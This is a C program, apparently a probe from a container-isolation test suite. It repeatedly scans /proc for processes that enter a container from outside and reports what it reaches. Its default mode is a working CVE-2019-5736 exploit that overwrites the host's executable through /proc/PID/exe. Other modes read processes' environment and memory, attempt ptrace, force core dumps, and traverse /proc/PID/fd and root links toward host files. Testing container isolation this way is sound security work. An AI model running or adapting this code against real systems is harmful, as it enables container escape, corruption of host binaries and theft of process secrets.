/* thief - tries to get at the programs that come into a container from
 * outside, until it is killed; prints what it has got.
 *
 *	thief			CVE-2019-5736: opens /proc/PID/exe of every
 *				process whose program is none of this tree, and
 *				overwrites it as soon as nobody runs it
 *	thief look		prints of each such process what it can see: its
 *				files, folder, root, environment, memory, and
 *				whether it lets itself be traced
 *	thief kill		sends each a signal that has the kernel write
 *				its memory to a file, core(5)
 *	thief peek FILE		prints of each whether it leads to FILE of the
 *				host, and whether it may do more than we
 *
 * "met PROGRAM" once for each name that was met, "kept" for a program that it
 * got hold of, "wrote" when it has overwritten one.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* A program of this tree has the file that its link says. */
static int
is_ours(int pid, char *link, size_t size)
{
	char path[64];
	struct stat a, b;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, size - 1);
	if (n < 0) {
		snprintf(link, size, "%s", strerror(errno));
		return errno == ENOENT || errno == ESRCH;
	}
	link[n] = '\0';
	if (stat(path, &a) < 0)	/* or it has ended meanwhile */
		return errno == ENOENT || errno == ESRCH;
	return !stat(link, &b) && a.st_dev == b.st_dev &&
	    a.st_ino == b.st_ino;
}

static void
met(const char *link)
{
	static char seen[16][128];
	int i;

	for (i = 0; i < 16 && *seen[i]; i++)
		if (!strcmp(seen[i], link))
			return;
	if (i < 16) {
		snprintf(seen[i], sizeof(seen[i]), "%s", link);
		printf("met %s\n", link);
		fflush(stdout);
	}
}

/* The files that were met, which stay reachable by our descriptors when nobody
 * runs them any more. */
static struct {
	int fd, wrote;
	dev_t dev;
	ino_t ino;
} file[16];
static int nfiles;

static void
keep(int pid)
{
	struct stat own, st;
	char path[64];
	int fd, i;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0)
		return;
	/* it may have exec'd a program of this tree by now */
	if (nfiles == 16 || fstat(fd, &st) < 0 ||
	    stat("/bin/busybox", &own) < 0 ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
		close(fd);
		return;
	}
	for (i = 0; i < nfiles; i++)
		if (file[i].dev == st.st_dev && file[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	file[nfiles].fd = fd;
	file[nfiles].dev = st.st_dev;
	file[nfiles++].ino = st.st_ino;
	puts("kept");
	fflush(stdout);
}

static void
overwrite(void)
{
	char path[64];
	int i, out;

	for (i = 0; i < nfiles; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", file[i].fd);
		out = file[i].wrote ? -1 : open(path, O_WRONLY);
		if (out < 0)
			continue;
		file[i].wrote = 1;
		if (write(out, "#!/bin/false\n", 13) == 13)
			puts("wrote");
		fflush(stdout);
		close(out);
	}
}

/* What is seen of a process that has exec'd a program of this tree meanwhile
 * does not count. */
static void
look(int pid)
{
	static const char *const files[] = { "environ", "mem", "maps", "cwd",
	    "root", "fd", "stack", "syscall", "exe" };
	char path[64], link[256];
	int seen[sizeof(files) / sizeof(*files)] = { 0 }, traced;
	char line[256] = "";
	size_t i;
	int fd;

	for (i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		fd = open(path, O_RDONLY);
		seen[i] = fd >= 0;
		if (fd >= 0)
			close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0) {
		read(fd, line, sizeof(line) - 1);
		close(fd);
	}
	traced = !ptrace(PTRACE_SEIZE, pid, 0, 0);
	if (!is_ours(pid, link, sizeof(link))) {
		for (i = 0; i < sizeof(files) / sizeof(*files); i++)
			if (seen[i])
				printf("saw %s\n", files[i]);
		if (*line && pid > 1)
			printf("saw command line: %s\n", line);
		if (traced)
			puts("saw trace");
	}
	fflush(stdout);
}

/* The value of a line of /proc/PID/status. */
static unsigned long long
status(int pid, const char *key, int base)
{
	char path[64], text[4096], *p;
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, text, sizeof(text) - 1);
		close(fd);
	}
	text[n > 0 ? n : 0] = '\0';
	p = strstr(text, key);
	return p ? strtoull(p + strlen(key), NULL, base) : ~0ULL;
}

static void
peek(int pid, const char *file)
{
	static const char up[] = "/../../../../../../../../../../../..";
	unsigned long long caps = status(pid, "CapEff:", 16);
	unsigned long long filter = status(pid, "Seccomp:", 10);
	int i, root, fd = -1;
	char path[512], link[256];

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, file);
	root = open(path, O_RDONLY);
	for (i = 0; i < 64 && fd < 0; i++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d%s%s", pid, i, up,
		    file);
		fd = open(path, O_RDONLY);
	}
	if (!is_ours(pid, link, sizeof(link))) {
		if (root >= 0)
			puts("saw root");
		if (fd >= 0)
			puts("saw fd");
		if (caps != ~0ULL && caps & ~status(getpid(), "CapEff:", 16))
			puts("saw capabilities");
		if (filter == 0)
			puts("saw no filter");
	}
	fflush(stdout);
	if (root >= 0)
		close(root);
	if (fd >= 0)
		close(fd);
}

int
main(int argc, char **argv)
{
	char link[256];
	struct dirent *e;
	DIR *d;
	int pid, all = argc > 1 && !strcmp(argv[1], "look");
	int kills = argc > 1 && !strcmp(argv[1], "kill");
	const char *file = argc > 2 ? argv[2] : NULL;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		d = opendir("/proc");
		while (d && (e = readdir(d))) {
			pid = atoi(e->d_name);
			if (pid < 1 || pid == getpid() ||
			    is_ours(pid, link, sizeof(link)))
				continue;
			met(link);
			if (all)
				look(pid);
			else if (kills)
				kill(pid, pid > 1 ? SIGQUIT : 0);
			else if (file)
				peek(pid, file);
			else
				keep(pid);
		}
		overwrite();
		/* who is traced ends when the tracer has seen it */
		while (waitpid(-1, NULL, __WALL | WNOHANG) > 0)
			;
		if (d)
			closedir(d);
	}
}
